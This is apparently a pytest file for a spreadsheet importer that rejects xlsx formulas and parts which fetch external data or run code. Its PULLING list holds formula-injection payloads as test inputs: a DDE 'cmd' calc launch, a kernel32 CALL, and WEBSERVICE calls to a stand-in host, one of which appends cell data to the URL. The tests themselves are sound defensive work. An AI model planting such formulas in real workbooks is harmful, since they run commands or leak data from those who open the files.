"""Formulas that fetch data from elsewhere are refused with their cell; those that calculate keep their result."""

from pathlib import Path

import pytest

from data_access.files.pulling import pulled_by
from data_access.files.text_rows import TextRow, UnreadableError
from data_access.imports.files import rows_of
from tests.data_access.files.workbooks import book, cell, row, sheet

PULLING = [
    'WEBSERVICE("http://x.example/")',
    '_xlfn.WEBSERVICE("http://x.example/"&A1)',
    '_xlfn.FILTERXML(A1,"//p")',
    'IMPORTXML("http://x.example/","//p")',
    'IF(A1,IMPORTRANGE("x","y"),"")',
    'RTD("prog",,"topic")',
    "cmd|'/c calc'!A1",
    "Excel|'[b.xlsx]S'!'R1C1'",
    "[1]Sheet1!A1",
    "SUM('[1]Sheet 1'!A1:A9)",
    "[1]!Rate",
    "'C:\\data\\[old.xlsx]Sheet1'!$A$1",
    "VLOOKUP(A2,[2]部局!$A:$C,3,FALSE)",
    'CUBEVALUE("model","[x]")',
    '_xlfn.STOCKHISTORY("7203",A1)',
    '_xlfn.IMAGE("http://x.example/p.png")',
    'CALL("kernel32","x","J")',
    'dde("a","b","c")',
]
CALCULATING = [
    "",
    "1+1",
    "SUM(A1:A9)",
    "Table1[Amount]*2",
    "SUM(Table1[[#All],[2024]])",
    'HYPERLINK("http://x.example/","x")',
    '"see [1]Sheet!A1, WEBSERVICE(1) or cmd|x!y"',
    "Sheet2!A1",
    "'Sheet 2'!A1",
    "MYRTD(1)",
    "XLOOKUP(A1,B:B,C:C)",
    'A1&"|"&B1',
    'TEXT(A1,"[h]:mm!")',
]


@pytest.mark.parametrize("formula", PULLING)
def test_a_formula_that_fetches_data_is_refused_with_its_cell(formula: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(book(sheet(row(1, ["id", "n"]) + f'<row r="2">{cell("B2", "7", formula=formula)}</row>')))
    with pytest.raises(UnreadableError, match="The formula in cell B2 fetches data from elsewhere") as refused:
        list(rows_of(path, (), lambda _text: None, lambda _done: None))
    error = refused.value
    assert (error.row, error.column, error.value) == (2, "B", f"={formula}")
    assert "セル B2 の数式は外部から" in error.message.ja


@pytest.mark.parametrize("formula", CALCULATING)
def test_a_formula_that_calculates_is_not(formula: str) -> None:
    assert pulled_by(formula) == ""


@pytest.mark.parametrize(
    ("part", "what"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
        ("xl/connections.xml", "connections to data elsewhere"),
        ("xl/queryTables/queryTable1.xml", "queries of data elsewhere"),
        ("xl/model/item.data", "a data model"),
        ("xl/embeddings/oleObject1.bin", "embedded objects"),
        ("xl/activeX/activeX1.xml", "ActiveX controls"),
    ],
)
def test_a_part_that_fetches_or_runs_something_is_refused_by_name(part: str, what: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(book(sheet(row(1, ["id"])), parts={part: b"x"}))
    with pytest.raises(UnreadableError, match=f"holds {what}.*{part}"):
        list(rows_of(path, (), lambda _text: None, lambda _done: None))


def test_a_link_to_another_workbook_is_refused_with_the_cell_that_uses_it(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    rows = row(1, ["id"]) + row(2, ["1"]) + f'<row r="3">{cell("A3", "7", formula="[1]S!A1")}</row>'
    path.write_bytes(book(sheet(rows), parts={"xl/externalLinks/externalLink1.xml": "<x/>"}))
    with pytest.raises(UnreadableError, match="The formula in cell A3"):
        list(rows_of(path, (), lambda _text: None, lambda _done: None))


def test_the_result_of_a_formula_is_its_value(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(book(sheet(row(1, ["id"]) + f'<row r="2">{cell("A2", "3", formula="1+2", kind="n")}</row>')))
    found = list(rows_of(path, (), lambda _text: None, lambda _done: None))
    assert found == [TextRow(1, ["id"]), TextRow(2, ["3"])]
